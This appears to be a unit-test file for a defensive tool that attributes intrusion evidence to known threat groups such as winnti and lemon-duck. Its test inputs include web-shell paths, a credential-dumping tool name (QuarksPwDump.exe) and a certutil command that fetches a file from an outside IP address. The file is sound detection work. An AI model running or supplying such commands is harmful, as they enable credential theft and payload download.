import { describe, expect, test } from "vitest";
import { loadKnowledge } from "../../knowledge/index.ts";
import type { Entities } from "../../model/index.ts";
import { sampleAssessment } from "../../model/testing/index.ts";
import { resemblances } from "./resemblance.ts";

const { clusters } = loadKnowledge();
const [sample] = sampleAssessment.findings;

function like(entities: Entities, since: string | null = "2021-03-06T10:00:00.000Z"): readonly string[] {
  if (sample === undefined) throw new Error("the sample has a finding");
  const finding = { ...sample, entities, citations: [] };
  return resemblances({ findings: [finding], addresses: [], since }, clusters).map(
    (one) => `${one.cluster} ${one.confidence}`,
  );
}

describe("which group an intruder resembles", () => {
  test("names of back doors alone, however many, resemble nobody", () => {
    const urls = ["/aspnet_client/supp0rt.aspx", "/aspnet_client/shell.aspx", "/aspnet_client/discover.aspx"];
    expect(like({ urls })).toEqual([]);
  });
  test("a telling domain in a command is a weak likeness, a domain and a tool are a better one", () => {
    expect(like({ processes: ["cmd /c ping mm.portomnail.com"] })).toEqual(["winnti low"]);
    expect(like({ processes: ["cmd /c ping mm.portomnail.com & QuarksPwDump.exe"] })).toEqual([
      "winnti medium",
    ]);
  });
  test("a file is told by its end, not by letters inside of another name", () => {
    expect(like({ files: ["C:\\Users\\Public\\opera\\opera_browser.exe"] })).toEqual(["opera low"]);
    expect(like({ files: ["C:\\x\\notkr.bin"], processes: ["copy mykr.bin kr.bin2"] })).toEqual([]);
    expect(like({ processes: ["cmd /c c:\\temp\\kr.bin"] })).toEqual(["lemon-duck low"]);
  });
  test("a break-in before the group was ever seen speaks against it", () => {
    if (sample === undefined) throw new Error("the sample has a finding");
    const finding = { ...sample, entities: { processes: ["ping mm.portomnail.com"] }, citations: [] };
    const since = "2021-01-09T10:00:00.000Z";
    const [one] = resemblances({ findings: [finding], addresses: [], since }, clusters);
    expect(one?.against[0]).toBe("This began on 2021-01-09; the group was first seen on 2021-03-02.");
    expect(one?.matches).toEqual(["the domain mm.portomnail.com"]);
  });
  test("an address of the group's servers counts wherever it stands", () => {
    expect(like({ processes: ["certutil -urlcache http://161.129.64.124/x"] })).toEqual(["winnti low"]);
  });
});
